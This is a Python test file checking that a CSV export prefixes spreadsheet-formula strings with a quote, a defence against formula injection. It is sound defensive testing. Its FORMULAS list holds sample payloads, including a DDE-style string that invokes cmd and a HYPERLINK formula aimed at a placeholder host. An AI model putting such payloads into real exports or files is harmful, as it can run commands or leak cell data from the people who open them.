"""Texts of events in CSV files are data for a spreadsheet, too."""

import csv
from pathlib import Path

import pytest

from glasstream.app.operate.export import TABLES
from glasstream.app.operate.table_files import in_sheet, write_csv
from glasstream_topics.consume.tables import Layout
from glasstream_topics.predictions import Metric, Prediction

FORMULAS = [
    '=HYPERLINK("http://a.example/?"&A1;"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
    "-a",
]
PLAIN = ["loans", "-2.5", "+1", "1e-05", "a=b", "", "'=1", "日本"]


def rows(path: Path, text: str) -> list[dict[str, str]]:
    record = Prediction(
        schema_version=1, epoch=0, stream=text, seq=0, id=text, prediction=text, probabilities=None, target=-2.5,
        loss=-0.5, loss_name=text, metric=Metric(text, -0.5), model_version=0,
    )  # fmt: skip
    write_csv(path, Layout(TABLES["predictions"].record), [record])
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_an_export_is_a_formula(tmp_path: Path, text: str) -> None:
    (row,) = rows(tmp_path / "p.csv", text)
    assert row["stream"] == f"'{text}" and row["loss"] == "-0.5"
    for cell in row.values():
        assert cell == in_sheet(cell)


@pytest.mark.parametrize("text", PLAIN)
def test_other_texts_and_numbers_are_written_as_they_are(tmp_path: Path, text: str) -> None:
    (row,) = rows(tmp_path / "p.csv", text)
    assert row["stream"] == text and row["target_number"] == "-2.5"
